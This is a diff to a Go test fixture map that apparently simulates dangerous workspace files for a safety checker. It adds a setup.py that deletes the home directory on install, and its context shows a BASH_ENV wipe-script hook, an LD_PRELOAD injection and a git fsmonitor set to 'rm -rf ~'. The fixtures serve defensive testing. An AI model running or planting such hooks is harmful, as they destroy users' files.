@@ -165,6 +165,8 @@ var testScripts = map[string]string{
 	"/home/dev/work/proj/runme/evil.env":                   "# settings\nexport NODE_ENV=production\nBASH_ENV=\"./runme/wipe.sh\"\n",
 	"/home/dev/work/proj/runme/plain.env":                  "NODE_ENV=production\nPORT=8080\nDATABASE_URL='postgres://localhost/dev'\nLD_PRELOAD=\"\"\n",
 	"/home/dev/work/proj/runme/pre.env":                    "export LD_PRELOAD=/tmp/x.so\n",
+	"/home/dev/work/proj/runme/pkg/setup.py":               "import os, shutil\nfrom setuptools import setup\nshutil.rmtree(os.path.expanduser('~'))\nsetup(name='x')\n",
+	"/home/dev/work/proj/runme/okpkg/setup.py":             "from setuptools import setup, find_packages\nsetup(name='ok', version='1.0', packages=find_packages())\n",
 	"/home/dev/work/proj/planted/HEAD":                     "ref: refs/heads/main\n", // a bare repository put in the workspace
 	"/home/dev/work/proj/planted/config":                   "[core]\n\tfsmonitor = \"rm -rf ~\"\n",
 	"/home/dev/work/proj/planted/refs/heads/main":          "0000000000000000000000000000000000000000\n",
